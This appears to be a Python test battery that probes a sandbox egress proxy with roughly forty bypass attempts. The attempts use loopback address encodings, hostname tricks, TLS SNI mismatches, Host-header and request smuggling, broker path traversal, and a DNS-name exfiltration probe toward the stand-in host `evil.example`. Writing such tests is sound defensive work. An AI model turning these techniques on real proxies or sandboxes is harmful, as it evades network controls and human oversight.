"""Attempts to get past the egress proxy, which may reach `allowed.example` and little else.

The host answers every connection that gets out with `reached` and what it was sent, so an attempt sees what left.
"""

from __future__ import annotations

import socket
import struct
import time

from tests.sandbox.battery import PATIENCE, Targets, attempt
from tests.sandbox.battery.network import ask

ALLOWED = "allowed.example"


def connect(t: Targets, where: str, then: bytes = b"") -> object:
    """Whether a tunnel to `where` is opened; with `then`, whether that got to its end."""
    with socket.create_connection(("127.0.0.1", t["door"]), PATIENCE) as door:
        door.settimeout(PATIENCE)
        door.sendall(b"CONNECT %s HTTP/1.1\r\nHost: x\r\n\r\n" % where.encode("utf-8", "surrogateescape"))
        head = door.recv(65536)
        if not head.startswith(b"HTTP/1.1 200"):
            return None
        if not then:
            return head
        try:
            door.sendall(then)
            return b"reached" in _rest(door)
        except OSError:
            return None


def _rest(door: socket.socket) -> bytes:
    answer, until = b"", time.monotonic() + PATIENCE
    while b"reached" not in answer and time.monotonic() < until and (piece := door.recv(65536)):
        answer += piece
    return answer


def hello(name: str | None) -> bytes:
    """A TLS ClientHello that asks for `name` (RFC 8446, section 4.1.2; RFC 6066, section 3)."""
    extensions = b""
    if name is not None:
        entry = struct.pack(">BH", 0, len(name)) + name.encode()
        extensions += struct.pack(">HHH", 0, len(entry) + 2, len(entry)) + entry
    extensions += struct.pack(">HHBH", 43, 3, 2, 0x0304)
    body = struct.pack(">H", 0x0303) + bytes(32) + b"\0" + struct.pack(">HH", 2, 0x1301) + b"\1\0"
    body += struct.pack(">H", len(extensions)) + extensions
    message = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack(">H", len(message)) + message


def place(t: Targets) -> str:
    return f"{ALLOWED}:{t['upstream']}"


def get(t: Targets, url: str, *lines: str) -> bytes:
    request = "".join(f"{line}\r\n" for line in (f"GET {url} HTTP/1.1", *(lines or ("Host: x",)), ""))
    return ask(t, request.encode("utf-8", "surrogateescape"))


@attempt
def tunnel_to_another_host(t: Targets) -> object:
    return connect(t, f"evil.example:{t['upstream']}")


@attempt
def tunnel_to_another_port(t: Targets) -> object:
    return connect(t, f"{ALLOWED}:22")


@attempt
def tunnel_to_an_address(t: Targets) -> object:
    return connect(t, f"127.0.0.1:{t['upstream']}")


@attempt
def tunnel_to_a_decimal_address(t: Targets) -> object:
    return connect(t, f"2130706433:{t['upstream']}")


@attempt
def tunnel_to_a_hexadecimal_address(t: Targets) -> object:
    return connect(t, f"0x7f000001:{t['upstream']}")


@attempt
def tunnel_to_a_short_address(t: Targets) -> object:
    return connect(t, f"127.1:{t['upstream']}")


@attempt
def tunnel_to_a_mapped_address(t: Targets) -> object:
    return connect(t, f"[::ffff:127.0.0.1]:{t['upstream']}")


@attempt
def tunnel_to_the_machine(t: Targets) -> object:
    return connect(t, f"localhost:{t['upstream']}")


@attempt
def name_with_a_nul(t: Targets) -> object:
    return connect(t, f"{ALLOWED}\0.evil.example:{t['upstream']}")


@attempt
def name_with_a_user(t: Targets) -> object:
    return connect(t, f"{ALLOWED}@evil.example:{t['upstream']}")


@attempt
def name_with_a_percent(t: Targets) -> object:
    return connect(t, f"{ALLOWED}%2eevil.example:{t['upstream']}")


@attempt
def name_in_wide_letters(t: Targets) -> object:
    return connect(t, f"\uff45vil.example:{t['upstream']}")


@attempt
def name_that_ends_alike(t: Targets) -> object:
    return connect(t, f"evil{ALLOWED}:{t['upstream']}")


@attempt
def name_that_begins_alike(t: Targets) -> object:
    return connect(t, f"{ALLOWED}.evil.example:{t['upstream']}")


@attempt
def name_beside_a_wildcard(t: Targets) -> object:
    return connect(t, f"evilwild.example:{t['upstream']}")


@attempt
def wildcard_itself(t: Targets) -> object:
    return connect(t, f"*.wild.example:{t['upstream']}")


@attempt
def allowed_name_at_the_metadata(t: Targets) -> object:
    return connect(t, f"metadata.example:{t['upstream']}")


@attempt
def allowed_name_at_the_loopback(t: Targets) -> object:
    return connect(t, f"rebound.example:{t['upstream']}")


@attempt
def allowed_name_in_the_private_network(t: Targets) -> object:
    return connect(t, f"private.example:{t['upstream']}")


@attempt
def allowed_name_with_one_bad_address(t: Targets) -> object:
    return connect(t, f"mixed.example:{t['upstream']}")


@attempt
def allowed_name_at_a_mapped_address(t: Targets) -> object:
    return connect(t, f"mapped.example:{t['upstream']}")


@attempt
def another_name_inside_the_tunnel(t: Targets) -> object:
    return connect(t, place(t), hello("evil.example"))


@attempt
def no_name_inside_the_tunnel(t: Targets) -> object:
    return connect(t, place(t), hello(None))


@attempt
def name_split_over_records(t: Targets) -> object:
    whole = hello("evil.example")
    first, second = whole[5:60], whole[60:]
    header = b"\x16\3\1"
    split = header + struct.pack(">H", len(first)) + first + header + struct.pack(">H", len(second)) + second
    return connect(t, place(t), split)


@attempt
def another_protocol_inside_the_tunnel(t: Targets) -> object:
    return connect(t, place(t), b"SSH-2.0-OpenSSH_9.2\r\n")


@attempt
def plain_request_inside_the_tunnel(t: Targets) -> object:
    return connect(t, place(t), b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")


@attempt
def plain_request_to_another_host(t: Targets) -> object:
    return b"reached" in get(t, f"http://evil.example:{t['upstream']}/")


@attempt
def another_name_in_the_head(t: Targets) -> object:
    return b"evil" in get(t, f"http://{place(t)}/", "Host: evil.example")


@attempt
def two_names_in_the_head(t: Targets) -> object:
    return b"evil" in get(t, f"http://{place(t)}/", f"Host: {place(t)}", "Host: evil.example")


@attempt
def two_lengths(t: Targets) -> object:
    lines = ("Host: x", "Content-Length: 4", "Transfer-Encoding: chunked", "", "0")
    return b"reached" in get(t, f"http://{place(t)}/", *lines)


@attempt
def second_request_behind_the_first(t: Targets) -> object:
    lines = ("Host: x", "", "GET / HTTP/1.1", "Host: evil.example")
    return b"evil" in get(t, f"http://{place(t)}/", *lines)


@attempt
def folded_line(t: Targets) -> object:
    return b"evil" in get(t, f"http://{place(t)}/", "Host: x", "X-A: b", " Host: evil.example")


@attempt
def bare_line_feeds(t: Targets) -> object:
    request = f"GET http://{place(t)}/ HTTP/1.1\nHost: x\nX-A: b\nHost: evil.example\n\n"
    return b"evil" in ask(t, request.encode())


@attempt
def line_break_in_the_target(t: Targets) -> object:
    return b"evil" in get(t, f"http://{place(t)}/\rHost:evil.example")


@attempt
def another_scheme(t: Targets) -> object:
    return b"reached" in get(t, f"ftp://{place(t)}/")


@attempt
def change_of_protocol(t: Targets) -> object:
    lines = ("Host: x", "Connection: Upgrade", "Upgrade: websocket")
    return b"Upgrade: websocket" in get(t, f"http://{place(t)}/", *lines)


@attempt
def trace(t: Targets) -> object:
    return b"reached" in ask(t, f"TRACE http://{place(t)}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())


@attempt
def head_without_end(t: Targets) -> object:
    return b"reached" in get(t, f"http://{place(t)}/", "Host: x", "X-A: " + "a" * 200_000)


@attempt
def names_that_carry_data(t: Targets) -> object:
    connect(t, f"c2VjcmV0.evil.example:{t['upstream']}")
    return None  # the host tells whether the name was looked up


@attempt
def unknown_broker(t: Targets) -> object:
    return b"reached" in get(t, "http://other.broker.internal/v1/x")


@attempt
def broker_beyond_its_paths(t: Targets) -> object:
    return b"reached" in get(t, "http://api.broker.internal/admin")


@attempt
def broker_by_dots(t: Targets) -> object:
    paths = ("/v1/../admin", "/v1/%2e%2e/admin", "/v1/..%2fadmin")
    return any(b"reached" in get(t, f"http://api.broker.internal{path}") for path in paths)


@attempt
def tunnel_to_a_broker(t: Targets) -> object:
    return connect(t, "api.broker.internal:80")


@attempt
def secret_of_a_broker(t: Targets) -> object:
    """The upstream gives back every line that it was sent."""
    answer = get(t, "http://api.broker.internal/v1/echo", "Host: x", "Authorization: Bearer placeholder")
    return any(secret.encode() in answer for secret in t["secrets"])
